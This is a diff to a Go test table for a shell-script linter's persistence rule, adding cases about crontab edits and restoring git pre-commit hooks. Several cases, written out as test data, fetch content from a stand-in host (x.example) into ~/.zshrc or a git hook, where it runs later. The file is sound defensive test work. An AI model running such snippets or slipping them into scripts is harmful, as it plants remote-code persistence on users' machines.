@@ -152,6 +152,9 @@ var codeCases = []lintCase{
 	{"s.sh", "persistence", "cat \"$CFG\" >> ~/.bashrc\n", "warning", 1},
 	{"s.sh", "persistence", "printf '%s\\n' 'command -v direnv >/dev/null && eval \"$(direnv hook zsh)\"' >> ~/.zshrc\n", "note", 1},
 	{"s.sh", "persistence", "printf '%s\\n' 'command -v direnv >/dev/null && eval \"$(curl -s x.example)\"' >> ~/.zshrc\n", "warning", 1},
+	{"s.sh", "persistence", "{ crontab -l 2>/dev/null | grep -vF \"$M\" || true; } | crontab -\n", "note", 1},
+	{"s.sh", "persistence", "hook=\"$(git rev-parse --git-path hooks)/pre-commit\"\n[[ -f \"$hook.bak\" ]] && mv -- \"$hook.bak\" \"$hook\"\n", "note", 2},
+	{"s.sh", "persistence", "hook=\"$(git rev-parse --git-path hooks)/pre-commit\"\ncurl -o \"$hook.bak\" https://x.example/h\nmv -- \"$hook.bak\" \"$hook\"\n", "warning", 3},
 	// The user's rc file with its old block left out and a plain one added, moved back over it.
 	{"s.sh", "persistence", "rc=\"$HOME/.zshrc\"\ntmp=\"$(mktemp)\"\nawk '/^# >>> d >>>$/{skip=1} !skip{print} /^# <<< d <<<$/{skip=0}' \"$rc\" > \"$tmp\"\nprintf '%s\\n' 'eval \"$(starship init zsh)\"' >> \"$tmp\"\nmv \"$tmp\" \"$rc\"\n", "note", 5},
 	{"s.sh", "persistence", "rc=\"$HOME/.zshrc\"\ntmp=\"$(mktemp)\"\ngrep -v '# d$' \"$rc\" > \"$tmp\"\necho \"$(curl -fsSL https://x.example/a)\" >> \"$tmp\"\nmv \"$tmp\" \"$rc\"\n", "warning", 5},
